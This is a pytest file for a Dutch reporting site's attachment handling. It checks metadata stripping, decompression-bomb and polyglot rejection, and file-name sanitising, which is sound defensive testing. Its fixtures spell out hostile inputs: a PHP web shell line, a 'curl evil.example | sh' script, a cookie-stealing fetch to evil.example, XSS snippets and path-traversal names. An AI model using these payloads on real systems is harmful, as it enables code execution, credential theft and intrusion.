"""Every attachment rule: allowed by content, cleaned, limited, explained when refused."""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile
import zlib
from pathlib import Path

import pikepdf
import pytest
from PIL import Image, ImageOps
from sqlalchemy import func, select

from meldpunt import crypto, storage
from meldpunt.extensions import db
from meldpunt.intake.attachments import (
    AttachmentRejected,
    clean_upload,
    display_name,
    sniff,
    stored_name,
    strip_jpeg_metadata,
)
from meldpunt.models import Attachment, Report
from tests import filemakers
from tests.helpers import GOOD_TEXT, file_part, form_values, report_data, soup, submit

MB = 1024 * 1024


def stored_files(app) -> list[Path]:
    folder = Path(app.config["UPLOAD_DIR"])
    return sorted(folder.iterdir()) if folder.exists() else []


# --- cleaning, unit level ----------------------------------------------------


def test_jpeg_with_gps_comes_out_without_any_metadata(app):
    original = filemakers.jpeg_with_gps()
    assert b"SnitchCam" in original and b"SERIAL-0042" in original
    with app.test_request_context():
        clean = clean_upload("IMG_2041.JPG", original, 20 * MB)
    assert clean.kind == "image" and clean.content_type == "image/jpeg"
    for marker in (b"SnitchCam", b"Model Z9", b"SERIAL-0042", b"secret comment"):
        assert marker not in clean.data
    assert_only_orientation_is_left(clean.data, orientation=6)
    with Image.open(io.BytesIO(clean.data)) as img:
        exif = img.getexif()
        assert exif.get_ifd(filemakers.GPS_IFD) == {} and exif.get_ifd(filemakers.EXIF_IFD) == {}
        # The photo is shown upright: the orientation is the one tag kept (see photos.py).
        assert ImageOps.exif_transpose(img).size == (48, 64)


def assert_only_orientation_is_left(jpeg: bytes, orientation: int) -> None:
    """The one EXIF segment left is the 36-byte orientation-only segment photos.py writes."""
    assert jpeg.count(b"Exif\x00\x00") == 1
    with Image.open(io.BytesIO(jpeg)) as img:
        assert dict(img.getexif()) == {0x0112: orientation}
        assert len(img.info["exif"]) == 32  # "Exif\0\0", TIFF header, one entry, no next IFD


def test_png_text_chunks_are_removed(app):
    with app.test_request_context():
        clean = clean_upload("x.png", filemakers.png_bytes(text_chunk="Jan Melder"), 20 * MB)
    assert clean.content_type == "image/png"
    assert b"Jan Melder" not in clean.data


def test_pdf_metadata_is_removed(app):
    original = filemakers.pdf_with_metadata("Jan Melder")
    assert b"Jan Melder" in original
    with app.test_request_context():
        clean = clean_upload("verslag.pdf", original, 20 * MB)
    assert clean.kind == "pdf"
    assert b"Jan Melder" not in clean.data and b"LAPTOP-JAN" not in clean.data
    with pikepdf.open(io.BytesIO(clean.data)) as pdf:
        assert "/Author" not in pdf.docinfo
        assert "/Metadata" not in pdf.Root


def test_video_location_and_device_are_blanked(app):
    original = filemakers.mp4_with_location()
    with app.test_request_context():
        clean = clean_upload("VID_0001.MP4", original, 20 * MB)
    assert clean.kind == "video" and clean.content_type == "video/mp4"
    assert len(clean.data) == len(original)  # offsets of the media data are unchanged
    assert b"+52.0906" not in clean.data and b"SnitchPhone" not in clean.data
    assert b"mdat" in clean.data


def test_windows_text_file_is_converted_to_utf8(app):
    with app.test_request_context():
        clean = clean_upload("notities.txt", "Café op de hoek, één keer".encode("cp1252"), 20 * MB)
    assert clean.data.decode("utf-8") == "Café op de hoek, één keer"


def _tar_bytes() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("a.txt")
        info.size = 5
        archive.addfile(info, io.BytesIO(b"hello"))
    return out.getvalue()


HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@pytest.mark.parametrize(
    ("name", "data", "reason_part"),
    [
        ("leeg.jpg", b"", "leeg"),
        # archives, whatever they are called
        ("archief.jpg", filemakers.zip_bytes(), "Dit soort bestand"),
        ("archief.pdf", gzip.compress(b"hello"), "Dit soort bestand"),
        ("archief.mp4", _tar_bytes(), "Dit soort bestand"),
        ("archief.png", b"7z\xbc\xaf\x27\x1c" + bytes(100), "Dit soort bestand"),
        ("archief.txt", b"Rar!\x1a\x07\x01\x00" + bytes(100), "Dit soort bestand"),
        # web pages, SVG and scripts dressed up as photos or PDFs
        ("pagina.pdf", b"<html><script>alert(1)</script></html>", "Dit soort bestand"),
        ("pagina.jpg", HTML, "Dit soort bestand"),
        ("pagina.png", b"\xef\xbb\xbf" + HTML, "Dit soort bestand"),
        ("pagina.jpeg", b"Hallo, zie bijlage\n" + HTML, "Dit soort bestand"),
        ("tekening.png", SVG, "Dit soort bestand"),
        ("tekening.jpg", b'<?xml version="1.0" encoding="UTF-8"?>\n' + SVG, "Dit soort bestand"),
        ("script.jpg", b"<?php system($_GET['c']); ?>", "Dit soort bestand"),
        ("script.pdf", b"#!/bin/sh\ncurl https://evil.example/x | sh\n", "Dit soort bestand"),
        ("programma.jpg", b"MZ\x90\x00" + b"\x00" * 200, "Dit soort bestand"),
        # binary that libmagic takes for text is not stored as a "text file"
        ("programma.png", b"\x7fELF" + b"\x00" * 200, "tekstbestand kunnen we niet lezen"),
        ("kapot.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x13" * 300, "kunnen we niet openen"),
        # decompression bombs: PNG over the pixel limit, JPEG and HEIC headers claiming gigapixels
        ("bom.png", filemakers.png_bomb(), "te groot"),
        ("bom.jpg", filemakers.jpeg_bomb(), "te groot"),
        ("bom.heic", filemakers.heic_bomb(), "te groot"),
        ("groot.txt", b"a" * (20 * MB + 1), "groter dan 20 MB"),
        # a video with a ZIP glued to its end does not parse as a video
        ("film.mp4", filemakers.mp4_with_location() + filemakers.zip_bytes(), "Deze video kunnen we niet lezen"),
    ],
)
def test_refused_files_get_a_reason(app, name, data, reason_part):
    with app.test_request_context(), pytest.raises(AttachmentRejected) as refused:
        clean_upload(name, data, 20 * MB)
    assert reason_part in refused.value.reason
    assert refused.value.filename == display_name(name)


def test_file_of_exactly_the_limit_is_accepted(app):
    with app.test_request_context():
        clean = clean_upload("notities.txt", b"a" * (20 * MB), 20 * MB)
    assert len(clean.data) == 20 * MB


def test_script_named_as_photo_is_only_ever_plain_text(app):
    """libmagic calls bare JavaScript text; it is kept as text and can only be opened as .txt."""
    script = b"fetch('https://evil.example/?' + document.cookie);\n"
    with app.test_request_context():
        clean = clean_upload("foto.jpg", script, 20 * MB)
    assert clean.kind == "text" and clean.content_type == "text/plain"
    assert clean.original_name == "foto.jpg.txt"


def test_windows_unicode_text_file_is_converted_to_utf8(app):
    note = "Café op de hoek\r\nbusje 12-AB-3\r\n"
    with app.test_request_context():
        clean = clean_upload("notities.txt", note.encode("utf-16"), 20 * MB)
    assert clean.data.decode("utf-8") == note


def test_display_names_lose_paths_and_direction_tricks():
    assert display_name("../../etc/passwd") == "passwd"
    assert display_name("C:\\Users\\jan\\foto.jpg") == "foto.jpg"
    assert display_name("/var/www/../../foto.jpg") == "foto.jpg"
    assert display_name("..") == "bestand"
    assert display_name("foto\u202egpj.exe") == "fotogpj.exe"
    # isolates, marks, zero-width characters, line separators and NUL are dropped too
    assert display_name("a\u2067b\u2069c\u200fd\u061ce\u200bf\u2028g\x00.png") == "abcdefg.png"
    assert display_name("foto\u00a0\t 1.png") == "foto 1.png"
    assert display_name("") == "bestand"
    assert len(display_name("a" * 500 + ".jpg")) <= 120


@pytest.mark.parametrize(
    ("name", "content_type", "expected"),
    [
        ("IMG_2041.JPG", "image/jpeg", "IMG_2041.JPG"),
        ("IMG_0001.HEIC", "image/jpeg", "IMG_0001.jpg"),
        ("foto.png", "image/jpeg", "foto.png.jpg"),
        ("bewijs.zip", "video/mp4", "bewijs.zip.mp4"),
        ("pagina.html", "text/plain", "pagina.html.txt"),
        ("lijst.csv", "text/plain", "lijst.csv.txt"),
        ("fotognp.exe", "image/png", "fotognp.exe.png"),
        ("verslag", "application/pdf", "verslag.pdf"),
        ("VID_1.MOV", "video/quicktime", "VID_1.MOV"),
    ],
)
def test_stored_name_ends_in_what_the_file_really_is(name, content_type, expected):
    assert stored_name(name, content_type) == expected


# --- HEIC and MOV, as phones send them ---------------------------------------------


def test_heic_with_gps_is_reencoded_without_metadata(app):
    original = filemakers.heic_with_gps()
    assert all(marker in original for marker in filemakers.HEIC_MARKERS)
    with Image.open(io.BytesIO(original)) as img:
        assert img.getexif().get_ifd(filemakers.GPS_IFD)  # the GPS really is in there
    with app.test_request_context():
        clean = clean_upload("IMG_0001.HEIC", original, 20 * MB)
    assert clean.kind == "image" and clean.content_type == "image/jpeg"
    assert clean.original_name == "IMG_0001.jpg"
    for marker in (*filemakers.HEIC_MARKERS, b"Exif", b"xmpmeta"):
        assert marker not in clean.data
    with Image.open(io.BytesIO(clean.data)) as img:
        assert img.format == "JPEG" and img.size == (64, 48)
        assert len(img.getexif()) == 0 and img.getexif().get_ifd(filemakers.GPS_IFD) == {}
        assert "xmp" not in img.info and "icc_profile" not in img.info


def test_quicktime_movie_loses_location_device_and_recording_time(app):
    original = filemakers.mov_with_location()
    assert b"\xa9xyz" in original and original.count(b"+52.0906") == 2
    with app.test_request_context():
        clean = clean_upload("IMG_0002.MOV", original, 20 * MB)
    assert clean.kind == "video" and clean.content_type == "video/quicktime"
    assert clean.original_name == "IMG_0002.MOV"
    assert len(clean.data) == len(original)  # offsets of the media data are unchanged
    for marker in (b"\xa9xyz", b"+52.0906", b"+005.1214", b"SnitchPhone", b"Apple", b"ISO6709"):
        assert marker not in clean.data
    assert filemakers.MOV_RECORDED_AT not in clean.data  # movie, track and media header times
    assert clean.data.startswith(original[:20]) and original[8:12] == b"qt  "  # ftyp untouched
    assert clean.data.endswith(b"mdat\x00\x00\x00\x10frame-data-here!")


def test_heic_and_mov_through_the_form_are_stored_clean(app, client):
    response = submit(
        client, files=[(filemakers.heic_with_gps(), "IMG_0001.HEIC"), (filemakers.mov_with_location(), "IMG_0002.MOV")]
    )
    assert response.status_code == 303
    with app.app_context():
        attachments = db.session.scalars(select(Attachment).order_by(Attachment.id)).all()
        kinds = [(a.kind, a.content_type) for a in attachments]
        assert kinds == [("image", "image/jpeg"), ("video", "video/quicktime")]
        names = [crypto.decrypt(a.name_encrypted).decode() for a in attachments]
        assert names == ["IMG_0001.jpg", "IMG_0002.MOV"]
        photo, movie = (storage.read_attachment(a.storage_name) for a in attachments)
    assert photo.startswith(b"\xff\xd8") and b"SnitchCam" not in photo and b"Exif" not in photo
    assert b"+52.0906" not in movie and b"\xa9xyz" not in movie


# --- polyglots: one file, two formats -------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("foto.jpg", filemakers.jpeg_with_gps() + filemakers.zip_bytes()),
        ("foto.jpg", filemakers.jpeg_with_gps() + HTML),
        ("foto.jpg", filemakers.jpeg_with_gps() + filemakers.pdf_with_metadata()),
        ("foto.png", filemakers.png_bytes() + filemakers.zip_bytes() + HTML),
    ],
)
def test_photo_with_trailing_zip_html_or_pdf_comes_out_without_it(app, name, data):
    if filemakers.zip_bytes() in data:
        assert zipfile.is_zipfile(io.BytesIO(data))  # the polyglot really opens as a ZIP
    with app.test_request_context():
        clean = clean_upload(name, data, 20 * MB)
    assert clean.kind == "image"
    for marker in (b"PK\x03\x04", b"PK\x05\x06", b"<html", b"<script", b"%PDF", b"Jan Melder", b"SnitchCam"):
        assert marker not in clean.data
    assert not zipfile.is_zipfile(io.BytesIO(clean.data))
    if clean.content_type == "image/jpeg":
        assert clean.data.endswith(b"\xff\xd9")  # nothing after the end-of-image marker
    else:
        assert clean.data.endswith(b"IEND\xaeB`\x82")  # nothing after the last PNG chunk
    with Image.open(io.BytesIO(clean.data)) as img:
        img.load()


def test_jpeg_with_html_hidden_in_a_comment_segment_loses_it(app):
    photo = filemakers.jpeg_with_gps()
    comment = b"\xff\xfe" + (len(HTML) + 2).to_bytes(2, "big") + HTML
    with app.test_request_context():
        clean = clean_upload("foto.jpg", photo[:2] + comment + photo[2:], 20 * MB)
    assert b"<script" not in clean.data


SCRIPT_PAGE = b"<html><script>alert(document.cookie)</script></html>\n"


@pytest.mark.parametrize(
    "data",
    [
        SCRIPT_PAGE + filemakers.pdf_with_metadata() + SCRIPT_PAGE,
        filemakers.pdf_with_metadata() + filemakers.zip_bytes() + SCRIPT_PAGE,
    ],
    ids=["html-around-pdf", "pdf-then-zip-and-html"],
)
def test_pdf_with_html_or_zip_glued_on_is_rewritten_as_pdf_only(app, data):
    assert sniff(data) == "application/pdf"  # libmagic sees a PDF, so it takes the PDF path
    with app.test_request_context():
        clean = clean_upload("verslag.pdf", data, 20 * MB)
    assert clean.kind == "pdf" and clean.data.startswith(b"%PDF-")
    assert clean.data.rstrip().endswith(b"%%EOF")
    for marker in (b"<html", b"<script", b"PK\x03\x04", b"PK\x05\x06", b"Jan Melder"):
        assert marker not in clean.data
    assert not zipfile.is_zipfile(io.BytesIO(clean.data))


def test_video_with_html_and_zip_in_spare_boxes_loses_them(app):
    data = filemakers.mp4_with_hidden_payload()
    assert zipfile.is_zipfile(io.BytesIO(data))
    with app.test_request_context():
        clean = clean_upload("bewijs.zip", data, 20 * MB)
    assert clean.kind == "video" and len(clean.data) == len(data)
    assert clean.original_name == "bewijs.zip.mp4"  # never opened as a ZIP after download
    for marker in (b"MovHtmlMarker", b"<script", b"PK\x03\x04", b"PK\x05\x06", b"+52.0906"):
        assert marker not in clean.data
    assert not zipfile.is_zipfile(io.BytesIO(clean.data))


# --- PDFs: everything hidden inside ---------------------------------------------------


def everything_in(pdf_bytes: bytes) -> bytes:
    """All a PDF holds, readable: the file itself, every object written out with Flate and
    LZW undone (qdf), every stream decoded, and JPEGs that sit behind a Flate filter."""
    parts = [pdf_bytes]
    with pikepdf.open(io.BytesIO(pdf_bytes)) as pdf:
        out = io.BytesIO()
        pdf.save(
            out,
            qdf=True,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )
        parts.append(out.getvalue())
        for obj in pdf.objects:
            if not isinstance(obj, pikepdf.Stream):
                continue
            filters = obj.get("/Filter")
            try:
                parts.append(obj.read_bytes(pikepdf.StreamDecodeLevel.generalized))
            except pikepdf.PdfError:
                parts.append(obj.read_raw_bytes())
            if isinstance(filters, pikepdf.Array) and filters[0] == pikepdf.Name.FlateDecode:
                parts.append(zlib.decompress(obj.read_raw_bytes()))
    return b"\n".join(parts)


def _pdf_images(pdf: pikepdf.Pdf) -> dict[str, pikepdf.Stream]:
    xobjects = pdf.pages[0].Resources.XObject
    return {
        "photo": xobjects.Im0,
        "form photo": xobjects.Fm0.Resources.XObject.Im1,
        "flate-wrapped photo": xobjects.Im2,
        "jpeg 2000": xobjects.Im3,
    }


def _pixels(image: pikepdf.Stream) -> bytes:
    return pikepdf.PdfImage(image).as_pil_image().convert("RGB").tobytes()


def test_pdf_loses_photo_exif_xmp_scripts_files_and_ids(app):
    original = filemakers.pdf_with_hidden_data()
    before = everything_in(original)
    for marker in filemakers.HIDDEN_PDF_MARKERS + filemakers.KEPT_PDF_MARKERS:
        assert marker in before, marker  # the test file really hides all of it
    with pikepdf.open(io.BytesIO(original)) as pdf:
        pixels_before = {name: _pixels(image) for name, image in _pdf_images(pdf).items()}

    with app.test_request_context():
        clean = clean_upload("afdruk.pdf", original, 20 * MB)

    after = everything_in(clean.data)
    left = [marker for marker in filemakers.HIDDEN_PDF_MARKERS if marker in after]
    assert left == []
    for marker in filemakers.KEPT_PDF_MARKERS:
        assert marker in after, marker  # the visible document is still there
    with pikepdf.open(io.BytesIO(clean.data)) as pdf:
        assert len(pdf.pages) == 2
        assert (pdf.check_pdf_syntax() if hasattr(pdf, "check_pdf_syntax") else pdf.check()) == []
        assert not pdf.is_encrypted
        assert "/Info" not in pdf.trailer
        for key in ("/Metadata", "/OpenAction", "/AA", "/PieceInfo"):
            assert key not in pdf.Root and key not in pdf.pages[0].obj
        assert "/XFA" not in pdf.Root.AcroForm
        assert len(pdf.attachments) == 0
        assert bytes(pdf.trailer.ID[0]) != filemakers.PDF_ORIGINAL_ID
        images = _pdf_images(pdf)
        # Only the metadata went: every picture decodes to exactly the same pixels.
        assert {name: _pixels(image) for name, image in images.items()} == pixels_before
        for name in ("photo", "form photo", "flate-wrapped photo"):
            assert images[name].Filter == pikepdf.Name.DCTDecode
            with Image.open(io.BytesIO(images[name].read_raw_bytes())) as img:
                assert len(img.getexif()) == 0 and "comment" not in img.info


def test_pdf_document_id_is_not_carried_over(app):
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.trailer.ID = pikepdf.Array([pikepdf.String(b"0123456789abcdef"), pikepdf.String(b"0123456789abcdef")])
    out = io.BytesIO()
    pdf.save(out)
    with pikepdf.open(io.BytesIO(out.getvalue())) as saved:
        assert bytes(saved.trailer.ID[0]) == b"0123456789abcdef"
    with app.test_request_context():
        clean = clean_upload("x.pdf", out.getvalue(), 20 * MB)
    with pikepdf.open(io.BytesIO(clean.data)) as cleaned:
        assert b"0123456789abcdef" not in {bytes(cleaned.trailer.ID[0]), bytes(cleaned.trailer.ID[1])}


def test_strip_jpeg_metadata_is_lossless_and_keeps_colour_segments():
    photo = filemakers.jpeg_with_all_metadata()
    icc = b"\xff\xe2" + (2 + 12 + 4).to_bytes(2, "big") + b"ICC_PROFILE\x00" + b"\x01\x01ab"
    adobe = b"\xff\xee" + (2 + 12).to_bytes(2, "big") + b"Adobe\x00\x64\x00\x00\x00\x00\x01"
    stripped = strip_jpeg_metadata(photo[:2] + icc + adobe + photo[2:])
    assert icc in stripped and adobe in stripped
    for marker in (b"Exif", b"XmpApp1Marker", b"IptcMarker", b"CommentMarker", b"SecondImageCam", b"secret comment"):
        assert marker not in stripped
    assert stripped.count(b"\xff\xd8") == 1 and stripped.endswith(b"\xff\xd9")
    with Image.open(io.BytesIO(photo)) as a, Image.open(io.BytesIO(stripped)) as b:
        assert a.tobytes() == b.tobytes()
    with pytest.raises(ValueError):
        strip_jpeg_metadata(b"<html>")


def test_pdf_bomb_is_copied_compressed_not_inflated(app):
    """Flate and LZW streams that expand to over a gigabyte pass through untouched."""
    original = filemakers.pdf_bomb()
    with pikepdf.open(io.BytesIO(original)) as pdf:
        raw_before = [(str(s.Filter), s.read_raw_bytes()) for s in pdf.pages[0].obj.Contents]
    with app.test_request_context():
        clean = clean_upload("bom.pdf", original, 20 * MB)
    assert len(clean.data) < 2 * len(original)
    with pikepdf.open(io.BytesIO(clean.data)) as pdf:
        assert len(pdf.pages) == 1
        assert [(str(s.Filter), s.read_raw_bytes()) for s in pdf.pages[0].obj.Contents] == raw_before


@pytest.mark.parametrize("revision", [4, 6])  # AES-128 (key depends on the /ID) and AES-256
def test_pdf_with_only_an_owner_password_is_stored_unencrypted_and_clean(app, revision):
    with pikepdf.open(io.BytesIO(filemakers.pdf_with_hidden_data())) as pdf:
        out = io.BytesIO()
        pdf.save(out, encryption=pikepdf.Encryption(owner="geheim", user="", R=revision))
    with app.test_request_context():
        clean = clean_upload("beveiligd.pdf", out.getvalue(), 20 * MB)
    with pikepdf.open(io.BytesIO(clean.data)) as pdf:
        assert not pdf.is_encrypted and len(pdf.pages) == 2
    after = everything_in(clean.data)
    assert [marker for marker in filemakers.HIDDEN_PDF_MARKERS if marker in after] == []
    assert all(marker in after for marker in filemakers.KEPT_PDF_MARKERS)


def test_pdf_with_a_user_password_is_refused(app):
    with pikepdf.open(io.BytesIO(filemakers.pdf_with_metadata())) as pdf:
        out = io.BytesIO()
        pdf.save(out, encryption=pikepdf.Encryption(owner="geheim", user="open", R=6))
    with app.test_request_context(), pytest.raises(AttachmentRejected) as refused:
        clean_upload("beveiligd.pdf", out.getvalue(), 20 * MB)
    assert "wachtwoord" in refused.value.reason


def test_pdf_earlier_revision_does_not_survive(app):
    """A name removed in a later, incremental save is still in the file; not after cleaning."""
    data = filemakers.pdf_with_incremental_update(before=b"Jan Melder", after=b"een bewoner")
    assert b"Jan Melder" in data
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert b"een bewoner" in pdf.pages[0].Contents.read_bytes()
    with app.test_request_context():
        clean = clean_upload("verslag.pdf", data, 20 * MB)
    after = everything_in(clean.data)
    assert b"Jan Melder" not in after and b"een bewoner" in after


# --- through the form ----------------------------------------------------------


def test_photo_upload_is_stored_encrypted_without_gps(app, client):
    response = submit(client, files=[(filemakers.jpeg_with_gps(), "IMG_2041.JPG")])
    assert response.status_code == 303
    files = stored_files(app)
    assert len(files) == 1
    raw = files[0].read_bytes()
    assert b"\xff\xd8" not in raw[:4]  # encrypted, not a JPEG on disk
    assert "IMG_2041" not in files[0].name
    with app.app_context():
        attachment = db.session.scalar(select(Attachment))
        assert attachment.storage_name == files[0].name
        plain = storage.read_attachment(attachment.storage_name)
        assert b"SnitchCam" not in plain and b"SERIAL-0042" not in plain
        assert_only_orientation_is_left(plain, orientation=6)
        assert db.session.scalar(select(Report.has_attachments)) is True


def test_rejected_file_keeps_form_and_accepted_files(app, client):
    response = submit(
        client,
        files=[(filemakers.png_bytes(), "plattegrond.png"), (filemakers.zip_bytes(), "bewijs.zip")],
    )
    assert response.status_code == 422
    page = soup(response)
    summary = page.select_one(".error-summary").get_text()
    assert "bewijs.zip" in summary and "Dit soort bestand" in summary
    kept = form_values(response)
    assert kept["text"].strip() == GOOD_TEXT
    # The accepted photo waits under the upload token, shown as a ticked box.
    assert page.find("input", {"name": "keep_files", "checked": True}) is not None
    assert "plattegrond.png" in page.get_text()
    assert stored_files(app) == []
    # Sending again without choosing files stores the photo that was kept.
    kept["keep_files"] = page.find("input", {"name": "keep_files"})["value"]
    response = client.post("/melden", data=kept, content_type="multipart/form-data")
    assert response.status_code == 303
    assert len(stored_files(app)) == 1
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Attachment)) == 1
    # The pending copy is gone once the report is stored.
    assert not any(Path(app.config["PENDING_UPLOAD_DIR"]).iterdir())


def test_unticking_a_kept_file_removes_it(app, client):
    response = submit(client, text="kort", files=[(filemakers.png_bytes(), "a.png")])
    assert response.status_code == 422
    kept = form_values(response)
    kept["text"] = GOOD_TEXT
    kept.pop("keep_files", None)
    response = client.post("/melden", data=kept, content_type="multipart/form-data")
    assert response.status_code == 303
    assert stored_files(app) == []


def test_at_most_five_files(app, client):
    files = [(filemakers.png_bytes(size=(10 + i, 10)), f"f{i}.png") for i in range(6)]
    response = submit(client, files=files)
    assert response.status_code == 422
    assert "hooguit 5 bestanden" in soup(response).select_one(".error-summary").get_text()


def test_total_size_limit(app_factory):
    app = app_factory(MAX_TOTAL_ATTACHMENT_BYTES=50 * MB)
    client = app.test_client()
    big = b"regel tekst\n" * (19 * MB // 12)
    response = submit(client, files=[(big, "a.txt"), (big, "b.txt"), (big, "c.txt")])
    assert response.status_code == 422
    assert "samen mogen niet groter zijn dan 50 MB" in soup(response).select_one(".error-summary").get_text()
    assert stored_files(app) == []


def test_failure_during_attachment_write_leaves_nothing(app, client, monkeypatch):
    calls = {"n": 0}
    real_adopt = storage.adopt_pending

    def failing_adopt(token, file_id, name):
        calls["n"] += 1
        if calls["n"] == 2:
            raise OSError(28, "No space left on device")
        return real_adopt(token, file_id, name)

    monkeypatch.setattr(storage, "adopt_pending", failing_adopt)
    response = submit(
        client,
        files=[(filemakers.png_bytes(), "een.png"), (filemakers.jpeg_with_gps(), "twee.jpg")],
    )
    assert response.status_code == 503
    page = soup(response)
    assert "Uw melding is nog niet verstuurd" in page.get_text()
    kept = form_values(response)
    assert kept["text"].strip() == GOOD_TEXT
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Report)) == 0
        assert db.session.scalar(select(func.count()).select_from(Attachment)) == 0
    assert stored_files(app) == []
    # Once the disk is fine again, the same form (with the kept files) goes through.
    monkeypatch.setattr(storage, "adopt_pending", real_adopt)
    kept["keep_files"] = [i["value"] for i in page.find_all("input", {"name": "keep_files"})]
    response = client.post("/melden", data=kept, content_type="multipart/form-data")
    assert response.status_code == 303
    assert len(stored_files(app)) == 2


def test_failure_at_commit_leaves_no_file(app, client, monkeypatch):
    def broken_commit(*args, **kwargs):
        raise RuntimeError("database went away")

    data = report_data(client)
    data["files"] = [file_part(filemakers.png_bytes(), "een.png")]
    monkeypatch.setattr(db.session, "commit", broken_commit)
    response = client.post("/melden", data=data, content_type="multipart/form-data")
    assert response.status_code == 503
    assert stored_files(app) == []
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Report)) == 0



def test_oversized_file_through_the_form_is_refused_with_a_reason(app, client):
    response = submit(client, files=[(b"a" * (20 * MB + 1), "groot.txt")])
    assert response.status_code == 422
    summary = soup(response).select_one(".error-summary").get_text()
    assert "groot.txt" in summary and "groter dan 20 MB" in summary
    assert stored_files(app) == []


@pytest.mark.parametrize(
    "filename",
    ["../../../../etc/cron.d/kaart.png", "..\\..\\Windows\\kaart.png", "/srv/kaart.png", "kaart.png\x00.exe"],
)
def test_path_tricks_in_names_stay_inside_the_upload_folder(app, client, filename):
    response = submit(client, files=[(filemakers.png_bytes(), filename)])
    assert response.status_code == 303
    files = stored_files(app)
    assert len(files) == 1 and files[0].parent == Path(app.config["UPLOAD_DIR"])
    assert "kaart" not in files[0].name
    assert not Path("/etc/cron.d/kaart.png").exists() and not Path("/srv/kaart.png").exists()
    with app.app_context():
        attachment = db.session.scalar(select(Attachment))
        name = crypto.decrypt(attachment.name_encrypted).decode()
    assert "/" not in name and "\\" not in name and "\x00" not in name
    assert name.endswith("kaart.png") or name == "kaart.png.exe.png"


def test_right_to_left_override_in_a_name_is_removed_everywhere(app, client):
    response = submit(client, text="kort", files=[(filemakers.png_bytes(), "foto\u202egnp.exe")])
    assert response.status_code == 422  # text too short: the kept file is listed on the page
    page_text = response.get_data(as_text=True)
    assert "\u202e" not in page_text and "fotognp.exe.png" in page_text
    kept = form_values(response)
    kept["text"] = GOOD_TEXT
    response = client.post("/melden", data=kept, content_type="multipart/form-data")
    assert response.status_code == 303
    with app.app_context():
        attachment = db.session.scalar(select(Attachment))
        assert crypto.decrypt(attachment.name_encrypted).decode() == "fotognp.exe.png"
